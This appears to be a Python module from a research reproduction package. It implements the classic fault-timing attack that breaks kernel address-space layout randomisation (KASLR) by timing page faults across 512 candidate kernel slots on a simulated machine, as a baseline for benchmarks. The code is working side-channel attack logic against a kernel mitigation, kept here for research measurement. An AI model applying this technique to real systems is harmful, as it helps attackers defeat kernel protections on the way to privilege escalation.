"""The pre-TET KASLR timing baseline (Hund, Willems & Holz, 2013).

Instead of timing the transient window, the classic attack times the
*whole* fault round-trip -- user access, #PF, kernel fault path, signal
delivery, handler -- and distinguishes mapped from unmapped addresses by
the same TLB/walk asymmetry.  It works, but every probe pays the full
signal-dispatch cost, so it is an order of magnitude slower per probe
than TET's suppressed-fault measurement; the benches compare the two.
"""

from __future__ import annotations

from typing import Dict

from repro.kernel.layout import KASLR_SLOTS, KASLR_UNMAPPED_REFERENCE, slot_base
from repro.whisper.analysis import kaslr_decision
from repro.whisper.attacks.kaslr import KaslrBreakResult
from repro.whisper.gadgets import RESUME_LABEL


class FaultTimingKaslr:
    """Full-fault-latency KASLR probing (signal-handler timing)."""

    def __init__(self, machine) -> None:
        self.machine = machine
        # Timestamp, faulting access, handler lands at the final timestamp.
        self.program = machine.load_program(f"""
    mfence
    rdtsc
    mov r14, rax
    load r8, [r13]          ; faulting probe, NOT suppressed by TSX
    nop
{RESUME_LABEL}:
    rdtsc
    mov r15, rax
    hlt
""")
        machine.set_signal_handler(self.program, RESUME_LABEL)

    def probe_latency(self, va: int) -> int:
        """Fault round-trip time for candidate *va* (double probe)."""
        self.machine.flush_tlb()
        self._probe(va)
        result = self._probe(va)
        return result.regs.read("r15") - result.regs.read("r14")

    def _probe(self, va: int):
        return self.machine.run(self.program, regs={"r13": va})

    def break_kaslr(self) -> KaslrBreakResult:
        """Scan the 512 slot bases by fault-path timing."""
        start_cycle = self.machine.core.global_cycle
        for _ in range(3):
            self.probe_latency(KASLR_UNMAPPED_REFERENCE)
        totes: Dict[int, int] = {}
        for slot in range(KASLR_SLOTS):
            totes[slot] = self.probe_latency(slot_base(slot))
        threshold, mapped, found = kaslr_decision(totes)
        cycles = self.machine.core.global_cycle - start_cycle
        return KaslrBreakResult(
            found_base=found,
            true_base=self.machine.kernel.layout.base,
            strategy="fault-timing-baseline",
            probes=2 * KASLR_SLOTS,
            cycles=cycles,
            seconds=self.machine.seconds(cycles),
            threshold=threshold,
            totes_by_slot=totes,
            mapped_slots=mapped,
        )
